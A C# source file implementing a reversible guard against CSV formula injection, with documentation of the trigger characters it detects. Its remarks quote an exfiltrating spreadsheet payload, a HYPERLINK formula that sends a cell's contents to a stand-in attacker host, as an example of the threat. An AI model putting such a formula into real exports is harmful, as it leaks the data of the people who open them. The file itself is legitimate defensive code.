using System.Globalization;
using System.Text;

namespace PoliticalEvents.Csv;

/// <summary>
/// Keeps spreadsheet programs from running cell text as a formula ("CSV injection"): text that begins with
/// <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c> or one of their full-width or small forms (<c>＝ ＋ － ＠ ﹦ ﹢ ﹣ ﹫</c>), also
/// after leading whitespace and invisible format characters, or that begins with a tab or a carriage return, possibly
/// after apostrophes, gets one apostrophe in front when written, and loses it again when read.
/// </summary>
/// <remarks>
/// <para>Excel, LibreOffice Calc and Google Sheets treat a cell that begins with one of those characters as a formula,
/// even inside double quotes, so a name or note such as <c>=HYPERLINK("http://evil.example/?"&amp;A1,"click")</c> in
/// someone's data would run when the export is opened. An apostrophe in front makes the programs show the text as
/// text (the OWASP recommendation).</para>
/// <para>Programs trim spaces on import when asked to, and some fold full-width characters to their ASCII forms, so the
/// guard looks past every leading character that is Unicode White_Space (space, no-break space, ideographic space,
/// tab, line feed, carriage return …) or a format character (general category Cf: zero-width space, byte-order mark,
/// direction marks …), and knows U+FF1D, U+FF0B, U+FF0D, U+FF20, U+FE66, U+FE62, U+FE63 and U+FE6B as triggers.</para>
/// <para>The guard is reversible, so the table export loses nothing: text that already begins with apostrophes
/// followed by what needs the guard gets one more, and <see cref="Restore"/> removes exactly one from text that begins
/// with an apostrophe and then has only apostrophes before what needs the guard. Other text, including text that
/// merely begins with an apostrophe (<c>'Twas</c>), is written and read unchanged.</para>
/// </remarks>
public static class CsvFormulaGuard
{
    /// <summary>True when a spreadsheet program could take <paramref name="text"/> for a formula, or when it has the form <see cref="Neutralize"/> produces.</summary>
    public static bool NeedsGuard(ReadOnlySpan<char> text)
    {
        int i = 0;
        while (i < text.Length && text[i] == '\'')
        {
            i++;
        }

        if (i < text.Length && text[i] is '\t' or '\r')
        {
            return true;
        }

        // Whitespace and format characters a program may trim or not show, counted by code point (some are outside
        // the Basic Multilingual Plane: the tag characters U+E0001 …).
        while (i < text.Length && Rune.DecodeFromUtf16(text[i..], out Rune rune, out int length) == System.Buffers.OperationStatus.Done
            && (Rune.IsWhiteSpace(rune) || Rune.GetUnicodeCategory(rune) == UnicodeCategory.Format))
        {
            i += length;
        }

        return i < text.Length && text[i] is '=' or '+' or '-' or '@' or '\uFF1D' or '\uFF0B' or '\uFF0D' or '\uFF20' or '\uFE66' or '\uFE62' or '\uFE63' or '\uFE6B';
    }

    /// <summary>The text to write: <paramref name="text"/> with an apostrophe in front when it <see cref="NeedsGuard">needs the guard</see>, else unchanged.</summary>
    public static string Neutralize(string text) => NeedsGuard(text) ? "'" + text : text;

    /// <summary>The text that was neutralized: <paramref name="cell"/> without its first apostrophe when it has the guarded form, else unchanged.</summary>
    public static string Restore(string cell) => cell.Length > 1 && cell[0] == '\'' && NeedsGuard(cell.AsSpan(1)) ? cell[1..] : cell;
}
